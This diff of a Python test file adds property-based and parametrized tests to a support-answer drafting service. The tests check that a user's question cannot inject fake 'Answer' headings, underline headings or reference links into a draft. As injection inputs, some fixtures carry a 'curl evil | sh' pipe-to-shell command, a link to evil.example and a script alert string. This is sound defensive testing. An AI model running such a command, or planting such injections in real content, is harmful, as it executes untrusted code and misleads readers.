@@ -1,9 +1,11 @@
 from dataclasses import replace
 from datetime import date
+from itertools import pairwise
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from service.documents.model import Document
 from service.documents.parser import parse_document
@@ -13,7 +15,44 @@ from tests.records.builders import NOW
 
 TODAY = date(2026, 5, 20)
 # What the interface lets through.
-TYPED = st.text(st.characters(exclude_categories=("Cc", "Cs"), include_characters="\n\t"), min_size=1, max_size=200)
+TYPED = st.text(st.characters(exclude_categories=("Cc", "Cs"), include_characters="\n\r\t"), min_size=1, max_size=200)
+# Markdown that ends lines, sections and code in every way, put together at random.
+MARKDOWN = st.lists(
+    st.sampled_from(
+        [
+            "\n",
+            "\r",
+            "\r\n",
+            "\u2028",
+            "\x0b",
+            "## Answer",
+            "# 专家官方解答 ：",
+            "## References",
+            "Answer",
+            "---",
+            "===",
+            "```",
+        ]
+        + [
+            "~~~",
+            "<!--",
+            "-->",
+            "* ",
+            "> ",
+            "1. ",
+            "    ",
+            "\t",
+            " ",
+            "\\",
+            "| a |",
+            "|---|",
+            "run `x`",
+            "* [fix](https://evil.example)",
+        ]
+    ),
+    min_size=1,
+    max_size=20,
+).map(lambda parts: "".join(parts) + "\nwibble")
 
 
 def make_group(question: str = "怎么把配置导出到另一个集群？", product: str | None = "nacos") -> Group:
@@ -94,6 +133,13 @@ def test_code_in_a_question_stays_as_it_was_typed() -> None:
         "<!-- 怎么办",
         "<script>alert(1)\n\n怎么办",
         "怎么办\n---\n## 参考链接\n* x",
+        "wibble?\r## Answer\rRun `curl evil | sh`.\r## References\r* [fix](https://evil.example)",
+        "wibble?\r\n\r\n## Answer\r\nRun it.",
+        "wibble?\n#\x01# Answer\nRun it.",
+        "wibble?\n\ufeff## Answer\nRun it.",
+        "Answer\n---\nRun it.",
+        "专家官方解答\n===\n没有",
+        "* wibble?\n  Answer\n  ---\n## Answer\nRun it.",
         "---\nid: other\n---\n怎么办",
         "\"quoted\": 'title' \\ # & * ! | > % @ `",
     ],
@@ -112,6 +158,31 @@ def test_draft_of_anything_typed_lacks_nothing_but_its_answer(question: str, pro
     text = draft(group, today=TODAY)
     assert set(problems(text)) <= {"no-answer", "no-question"}
     assert draft_id(group).endswith("-0123456789")
+
+
+@given(question=MARKDOWN)
+def test_draft_never_has_an_answer_or_a_link_of_those_who_asked(question: str) -> None:
+    group = replace(make_group(question), documents=(ClosestDocument("x", "Import fails", 0.2),))
+    text = draft(group, today=TODAY)
+    assert set(problems(text)) <= {"no-answer", "no-question"} and problems(text)
+    document = answered(text)
+    assert document.markdown.splitlines() == ["### 原因分析", "", "Because.", "", "### 解决步骤"] or (
+        document.markdown.splitlines() == ["### Causes", "", "Because.", "", "### Steps"]
+    )
+    assert [reference.title for reference in document.references] == ["Import fails"]
+
+
+@pytest.mark.parametrize("underline", ["---", "===", "-", "  =  "])
+def test_underlined_text_is_no_heading_in_any_reader_of_the_draft(underline: str) -> None:
+    body = draft(make_group(f"Run it.\nHow?\n{underline}\nx"), today=TODAY).split("---\n", 2)[2]
+    tokens = MarkdownIt("commonmark").parse(body)
+    headings = [text.content for opened, text in pairwise(tokens) if opened.type == "heading_open"]
+    assert headings == ["Question", "Answer", "Causes", "Steps", "References"]
+
+
+def test_log_with_rules_in_code_stays_as_it_was_typed() -> None:
+    question = "启动报错\n```\nname: a\n---\nname: b\n```"
+    assert answered(draft(make_group(question), today=TODAY)).question == question
 
 
 def test_long_question_has_a_short_title() -> None:
